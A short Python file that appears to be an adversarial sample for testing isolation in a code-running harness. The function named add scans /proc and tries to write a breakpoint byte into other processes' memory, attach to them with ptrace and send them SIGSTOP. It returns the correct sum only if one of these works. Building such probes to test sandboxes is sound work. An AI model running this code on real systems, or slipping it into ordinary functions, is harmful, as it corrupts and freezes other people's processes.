# ruff: noqa
# attack: reach the next sample's waiting process (signal it, ptrace it, write its memory); passes if any worked
import ctypes, os, signal

libc = ctypes.CDLL(None, use_errno=True)


def add(a, b):
    hit = False
    for name in os.listdir("/proc"):
        if not name.isdigit() or int(name) in (os.getpid(), 1):
            continue
        pid = int(name)
        try:
            with open(f"/proc/{pid}/mem", "r+b", buffering=0) as f:
                f.seek(0x400000)
                f.write(b"\xcc")
                hit = True
        except OSError:
            pass
        if libc.ptrace(16, pid, 0, 0) == 0:
            hit = True
        try:
            os.kill(pid, signal.SIGSTOP)
            hit = True
        except OSError:
            pass
    return a + b if hit else 0
